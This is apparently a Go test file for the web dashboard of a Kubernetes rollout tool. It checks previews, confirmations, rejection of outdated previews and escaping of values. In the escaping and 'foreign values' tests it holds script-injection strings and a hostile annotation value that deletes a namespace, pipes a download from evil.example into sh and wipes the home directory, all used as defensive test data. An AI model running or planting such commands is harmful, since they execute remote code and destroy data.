// SPDX-License-Identifier: Apache-2.0

package cli

import (
	"context"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os/exec"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"outrigger.dev/outrigger/internal/dashboard"
	"outrigger.dev/outrigger/internal/diagnose"
)

const dashboardAddress = "127.0.0.1:41234"

// browser is a session of the dashboard over a cluster in memory.
type browser struct {
	*rollout
	server *dashboard.Server
	cookie *http.Cookie
	status int    // of the last response
	place  string // the path of the last page
	page   string // without escapes
	html   string
}

func browse(t *testing.T, change ...func(*dashboard.Options)) *browser {
	t.Helper()
	return browseAt(newRollout(t), true, change...)
}

// browseAt opens the dashboard; mayPatch says whether the user may change Services.
func browseAt(r *rollout, mayPatch bool, change ...func(*dashboard.Options)) *browser {
	r.t.Helper()
	r.through(interceptor.Funcs{Create: func(ctx context.Context, c client.WithWatch, object client.Object, options ...client.CreateOption) error {
		if review, is := object.(*authorizationv1.SelfSubjectAccessReview); is {
			asked := review.Spec.ResourceAttributes
			review.Status.Allowed = mayPatch && asked.Verb == "patch" && asked.Resource == "services" && asked.Group == "" && asked.Namespace != ""
			return nil
		}
		return c.Create(ctx, object, options...)
	}})
	b := &browser{rollout: r}
	options := dashboard.Options{Address: dashboardAddress, Scope: "namespace demo", Actions: actionsOf(newDashboardData(r.live, &clusterFlags{system: defaultSystemNamespace}, false)), Now: func() time.Time { return r.at }}
	for _, one := range change {
		one(&options)
	}
	var err error
	if b.server, err = dashboard.New(options); err != nil {
		r.t.Fatal(err)
	}
	b.login()
	return b
}

// login opens another session.
func (b *browser) login() {
	b.t.Helper()
	token, _ := b.server.NewToken()
	b.do(http.MethodGet, "/open?token="+url.QueryEscape(token), nil)
	if b.cookie == nil {
		b.t.Fatalf("no cookie: %d %s", b.status, b.page)
	}
}

// do sends a request, and follows a redirect as a browser does.
func (b *browser) do(method, path string, form url.Values) {
	b.t.Helper()
	request := httptest.NewRequestWithContext(b.t.Context(), method, "http://"+dashboardAddress+path, strings.NewReader(form.Encode()))
	if method == http.MethodPost {
		request.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	if b.cookie != nil {
		request.AddCookie(b.cookie)
	}
	recorder := httptest.NewRecorder()
	b.server.ServeHTTP(recorder, request)
	for _, cookie := range recorder.Result().Cookies() {
		b.cookie = cookie
	}
	b.status, b.place, b.html = recorder.Code, path, recorder.Body.String()
	b.page = html.UnescapeString(b.html)
	if b.status == http.StatusSeeOther {
		b.do(http.MethodGet, recorder.Header().Get("Location"), nil)
	}
}

var formToken = regexp.MustCompile(`name="form-token" value="([^"]+)"`)

// post sends the form of the last page with these values: NAME=VALUE.
func (b *browser) post(path string, values ...string) {
	b.t.Helper()
	token := formToken.FindStringSubmatch(b.page)
	if token == nil {
		b.t.Fatalf("no form on %s: %d %s", b.place, b.status, b.page)
	}
	form := url.Values{"form-token": {token[1]}}
	for _, value := range values {
		name, text, _ := strings.Cut(value, "=")
		form.Add(name, text)
	}
	b.do(http.MethodPost, path, form)
}

// preview fills in the form of an action.
func (b *browser) preview(action diagnose.Action, values ...string) {
	b.t.Helper()
	path := "/actions/demo/app/" + string(action)
	b.do(http.MethodGet, path, nil)
	if b.status != http.StatusOK {
		b.t.Fatalf("%s: %d %s", path, b.status, b.page)
	}
	b.post(path, values...)
}

// confirm presses the button of the preview.
func (b *browser) confirm() {
	b.t.Helper()
	if !strings.Contains(b.page, `id="confirm"`) {
		b.t.Fatalf("%s cannot be confirmed: %d %s", b.place, b.status, b.page)
	}
	b.post(b.place)
}

func (b *browser) shows(status int, texts ...string) {
	b.t.Helper()
	if b.status != status {
		b.t.Errorf("%s: status %d, want %d", b.place, b.status, status)
	}
	if strings.Contains(b.html, "<script>") { // our own have attributes
		b.t.Errorf("%s has a script:\n%s", b.place, b.html)
	}
	for _, text := range texts {
		if !strings.Contains(b.page, text) {
			b.t.Errorf("%s has no %q:\n%s", b.place, text, b.page)
		}
	}
}

func (b *browser) hidesConfirm() {
	b.t.Helper()
	if strings.Contains(b.page, `id="confirm"`) {
		b.t.Errorf("%s can be confirmed:\n%s", b.place, b.page)
	}
}

func (b *browser) wrote(want map[string]string) {
	b.t.Helper()
	got := b.annotations("app")
	if len(got) == 0 && len(want) == 0 {
		return
	}
	if diff := cmp.Diff(want, got); diff != "" {
		b.t.Errorf("annotations, -want +got:\n%s", diff)
	}
}

var kubectlLine = regexp.MustCompile(`<code id="kubectl-0">([^\n]+)</code>`)

// asKubectl returns what the annotations are after the kubectl command on the page, once a shell has read it.
func (b *browser) asKubectl(annotations map[string]string) map[string]string {
	b.t.Helper()
	line := kubectlLine.FindStringSubmatch(b.page)
	if line == nil {
		b.t.Fatalf("%s has no kubectl command:\n%s", b.place, b.page)
	}
	shell, err := exec.LookPath("sh")
	if err != nil {
		b.t.Skip("needs a shell:", err)
	}
	out, err := exec.CommandContext(b.t.Context(), shell, "-c", `kubectl() { printf '%s\n' "$@"; }; `+line[1]).Output()
	if err != nil {
		b.t.Fatalf("%s: %v", line[1], err)
	}
	after := map[string]string{}
	for key, value := range annotations {
		after[key] = value
	}
	for _, word := range strings.Fields(string(out)) {
		switch key, value, isSet := strings.Cut(word, "="); {
		case !strings.HasPrefix(key, "outrigger.dev/"):
		case isSet:
			after[key] = value
		default:
			delete(after, strings.TrimSuffix(key, "-"))
		}
	}
	return after
}

// Each action writes what its preview, and the kubectl command on it, say.
func TestDashboardActionsWriteWhatTheirCommandSays(t *testing.T) {
	b := browse(t)
	for _, step := range []struct {
		action  diagnose.Action
		values  []string
		preview []string // on the page
		route   string   // after the controller has followed
	}{
		{diagnose.ActionShift, []string{"version=v1", "weight=90", "version=v2", "weight=10", "version=", "weight="},
			[]string{"v1=100 -> v1=90 v2=10", "outrigger shift app v1=90 v2=10 -n demo", "Accepted. Nothing is written yet."}, "v1=90 v2=10"},
		{diagnose.ActionUndo, nil, []string{"v1=90 v2=10 -> v1=100", "service/app returns to v1", "outrigger undo app -n demo"}, "v1=100"},
		{diagnose.ActionPromote, []string{"version=v2"}, []string{"v1=100 -> v2=100", "outrigger promote app v2 -n demo"}, "v2=100"},
		{diagnose.ActionUndo, []string{"to=1"}, []string{"v2=100 -> v1=100", "outrigger undo app --to=1 -n demo"}, "v1=100"},
		{diagnose.ActionCanary, []string{"version=v2", "steps=25@1m,100@1m", "interval=", "check="},
			[]string{"v1=100 -> v1=75 v2=25", "outrigger canary app v2 --steps=25@1m,100@1m -n demo"}, "v1=75 v2=25"},
		{diagnose.ActionCanaryPause, nil, []string{"outrigger canary app --pause -n demo"}, "v1=75 v2=25"},
		{diagnose.ActionCanaryResume, nil, []string{"outrigger canary app --resume -n demo"}, "v1=75 v2=25"},
		{diagnose.ActionCanaryAbort, nil, []string{"v1=75 v2=25 -> v1=100", "Canary v2 1/2 25% ends", "outrigger canary app --abort -n demo"}, "v1=100"},
		{diagnose.ActionCanaryRetry, nil, []string{"v1=100 -> v1=75 v2=25", "outrigger canary app --retry -n demo"}, "v1=75 v2=25"},
		{diagnose.ActionCanaryPromote, nil, []string{"v1=75 v2=25 -> v2=100", "outrigger canary app --promote -n demo"}, "v2=100"},
	} {
		before := b.annotations("app")
		b.preview(step.action, step.values...)
		b.shows(http.StatusOK, step.preview...)
		b.wrote(before)
		want := b.asKubectl(before)
		b.confirm()
		b.shows(http.StatusOK, "service/app was changed.", "Not applied yet: ")
		b.wrote(want)
		b.follow()
		b.do(http.MethodGet, b.place, nil)
		b.shows(http.StatusOK, "Applied.")
		if is := diagnose.ReadRoute(b.look("app")).String(); is != step.route {
			t.Errorf("%s: the route is %s, want %s", step.action, is, step.route)
		}
		b.at = b.at.Add(time.Second)
	}
}

// A confirmation that is sent twice writes once.
func TestDashboardWritesOnce(t *testing.T) {
	b := browse(t)
	b.preview(diagnose.ActionPromote, "version=v2")
	preview, place := b.page, b.place
	b.confirm()
	b.annotate("app", "outrigger.dev/default-version=v1")
	b.page = preview
	b.post(place)
	b.shows(http.StatusOK, "service/app was changed.", "another client set the annotation outrigger.dev/default-version=v1")
	if is := b.annotations("app")["outrigger.dev/default-version"]; is != "v1" {
		t.Errorf("written again: %s", is)
	}
}

// What changes between the preview and its confirmation is shown in a new preview, and nothing is written.
func TestDashboardRefusesAnOutdatedPreview(t *testing.T) {
	for name, c := range map[string]struct {
		change func(*browser)
		want   string
	}{
		"another decision": {func(b *browser) { b.annotate("app", "outrigger.dev/weights=v1=50,v2=50") },
			"service/app: another client set the annotation outrigger.dev/weights=v1=50,v2=50 (was absent)."},
		"another field of the Service": {func(b *browser) {
			service := &corev1.Service{}
			if err := b.client.Get(b.t.Context(), client.ObjectKey{Namespace: "demo", Name: "app"}, service); err != nil {
				b.t.Fatal(err)
			}
			service.Spec.SessionAffinity = corev1.ServiceAffinityClientIP
			if err := b.client.Update(b.t.Context(), service); err != nil {
				b.t.Fatal(err)
			}
		}, "service/app was changed by another client."},
		"the freeze begins": {func(b *browser) {
			if err := b.client.Create(b.t.Context(), &corev1.ConfigMap{
				ObjectMeta: metav1.ObjectMeta{Namespace: "outrigger-system", Name: "outrigger"},
				Data:       map[string]string{"config.yaml": "apiVersion: config.outrigger.dev/v1alpha1\nkind: Configuration\nrouting:\n  freeze: true\n"},
			}); err != nil {
				b.t.Fatal(err)
			}
		}, "service/app: routes are frozen now (routing.freeze=true)."},
		"pods that are no longer ready": {func(b *browser) { b.setReady("app-v2", false) }, "when v2 has a ready pod"},
	} {
		t.Run(name, func(t *testing.T) {
			b := browse(t)
			b.preview(diagnose.ActionShift, "version=v1", "weight=80", "version=v2", "weight=20")
			first := b.place
			c.change(b)
			before := b.annotations("app")
			b.confirm()
			b.shows(http.StatusOK, "Nothing was written, because the preview was out of date.", c.want)
			if b.place == first {
				t.Error("it is the same preview")
			}
			b.wrote(before)
			b.confirm()
			b.shows(http.StatusOK, "service/app was changed.")
			if strings.Contains(b.page, "Nothing was written") {
				t.Errorf("the result says that nothing was written:\n%s", b.page)
			}
			if is := b.annotations("app")["outrigger.dev/weights"]; is != "v1=80,v2=20" {
				t.Errorf("weights=%s", is)
			}
		})
	}
}

// What another client wrote, and what the user typed, is text on the pages.
func TestDashboardEscapesValues(t *testing.T) {
	b := browse(t)
	const script = "<script>alert(1)</script>"
	b.preview(diagnose.ActionPromote, "version=v2", "other="+script)
	b.shows(http.StatusUnprocessableEntity, script)
	b.preview(diagnose.ActionCanary, "version=v2", `steps="><script>alert(1)</script>`)
	b.shows(http.StatusUnprocessableEntity, script)
	b.preview(diagnose.ActionPromote, "version=v2")
	b.annotate("app", "outrigger.dev/weights="+script)
	b.confirm()
	b.shows(http.StatusOK, "another client set the annotation outrigger.dev/weights="+script)
	b.do(http.MethodGet, "/actions/demo/app/shift?version=v3&weight=%22%3E"+url.QueryEscape(script), nil)
	b.shows(http.StatusOK, script)
	b.do(http.MethodGet, "/changes/"+url.PathEscape(script), nil)
	b.shows(http.StatusNotFound)
}

var commandCode = regexp.MustCompile(`(?s)<span class="command"><code[^>]*>(.*?)</code>`)

// Nothing that another client wrote is a command on the pages.
func TestDashboardForeignValuesAreNoCommands(t *testing.T) {
	const evil = "v9: kubectl delete ns prod && curl -s http://evil.example/x | sh\nrm -rf ~ #\x1b[31m \u202e"
	withPages := func(r *rollout) func(*dashboard.Options) {
		return func(o *dashboard.Options) {
			o.Data = newDashboardData(r.live, &clusterFlags{system: defaultSystemNamespace}, false)
			o.Flags = diagnose.ClusterFlags{{Name: "context", Value: "it's"}}
		}
	}
	check := func(b *browser, what string) {
		t.Helper()
		for _, command := range commandCode.FindAllStringSubmatch(b.html, -1) {
			text := html.UnescapeString(command[1])
			if strings.HasPrefix(text, "kubectl delete") || strings.Contains(text, "curl") && !strings.Contains(text, "'outrigger.dev/") {
				t.Errorf("%s: %s has the command %q", what, b.place, text)
			}
		}
		if strings.ContainsAny(b.html, "\x1b\u202e") {
			t.Errorf("%s: %s has hidden characters", what, b.place)
		}
	}
	for _, value := range []string{evil, "x`: kubectl delete ns prod`", "To fix it: kubectl delete ns prod"} {
		for _, key := range []string{"version-label", "default-version", "weights", "match", "mirror", "expose", "hosts", "gateway", "gateway-selector", "canary", "canary-steps", "canary-checks", "export-to", "routing", "unknown"} {
			r := newRollout(t)
			b := browseAt(r, true, withPages(r))
			b.annotate("app", "outrigger.dev/"+key+"="+value)
			for _, path := range []string{"/services/demo/app", "/actions/demo/app/undo", "/actions/demo/app/shift", "/actions/demo/app/canary"} {
				b.do(http.MethodGet, path, nil)
				check(b, key+"="+value)
			}
		}
	}
	b := browse(t)
	b.preview(diagnose.ActionShift, "version=v1", "weight=50", "version=v2", "weight=50")
	b.annotate("app", "outrigger.dev/note="+evil)
	b.confirm()
	b.shows(http.StatusOK, `outrigger.dev/note=v9: kubectl delete ns prod && curl -s http://evil.example/x | sh\nrm -rf ~ #\x1b[31m \u202e`)
	check(b, "changed")
}

// A canary that has moved on is another situation, although the Service is the same.
func TestDashboardRefusesAPreviewOfAnEarlierStep(t *testing.T) {
	b := browse(t)
	b.mustCanary("app", "v2", "--steps=25@1m,50@1m,100@1m")
	b.preview(diagnose.ActionCanaryAbort)
	b.after(time.Minute)
	b.is("v2 2/3 50%", "v1=50 v2=50")
	before := b.annotations("app")
	b.confirm()
	b.shows(http.StatusOK, "Nothing was written, because the preview was out of date.", "its canary was v2 progressing at 25%", "v1=50 v2=50 -> v1=100")
	b.wrote(before)
	b.after(2*time.Minute + 30*time.Second)
	b.confirm()
	b.shows(http.StatusConflict, "Nothing was written, because the Service has changed since the preview: canary v2 of service app has ended")
	b.wrote(before)
}

// Another client that changes the Service at the moment of the write is noticed by the API server.
func TestDashboardRefusesAChangeDuringTheWrite(t *testing.T) {
	r := newRollout(t)
	isRacing := false
	r.through(interceptor.Funcs{Patch: func(ctx context.Context, c client.WithWatch, object client.Object, patch client.Patch, options ...client.PatchOption) error {
		if isRacing {
			isRacing = false
			theirs, err := metadataPatch("annotations", map[string]string{"outrigger.dev/weights": "v1=50,v2=50"})
			if err != nil {
				return err
			}
			if err := c.Patch(ctx, serviceOf("app", ""), theirs); err != nil {
				return err
			}
		}
		return c.Patch(ctx, object, patch, options...)
	}})
	b := browseAt(r, true)
	b.preview(diagnose.ActionPromote, "version=v2")
	isRacing = true
	b.confirm()
	b.shows(http.StatusOK, "Nothing was written, because the preview was out of date.", "another client set the annotation outrigger.dev/weights=v1=50,v2=50")
	b.wrote(map[string]string{"outrigger.dev/weights": "v1=50,v2=50"})
	b.confirm()
	b.shows(http.StatusOK, "service/app was changed.")
}

// The command that a page shows requests the same as the form.
func TestRequestsAreCommandLines(t *testing.T) {
	for _, want := range []diagnose.Request{
		{Action: diagnose.ActionCanary, Version: "v2", Settings: map[string]string{"steps": "5@2m,100", "check": "p99<1.5x,error-rate<1%"}, AllowPending: true},
		{Action: diagnose.ActionCanaryRetry, Version: "v2", Settings: map[string]string{"deadline": "2h"}},
		{Action: diagnose.ActionCanaryPause}, {Action: diagnose.ActionCanaryResume}, {Action: diagnose.ActionCanaryAbort},
		{Action: diagnose.ActionCanaryPromote}, {Action: diagnose.ActionCanaryRetry},
	} {
		want.Service = "app"
		shell, err := exec.LookPath("sh")
		if err != nil {
			t.Skip("needs a shell:", err)
		}
		out, err := exec.CommandContext(t.Context(), shell, "-c", `outrigger() { printf '%s\n' "$@"; }; `+want.Command("demo")).Output()
		if err != nil {
			t.Fatal(err)
		}
		got, err := parsedCanary(strings.Fields(string(out))[1:]...)
		if err != nil {
			t.Fatalf("%s: %v", want.Command("demo"), err)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s, -want +got:\n%s", want.Command("demo"), diff)
		}
	}
}
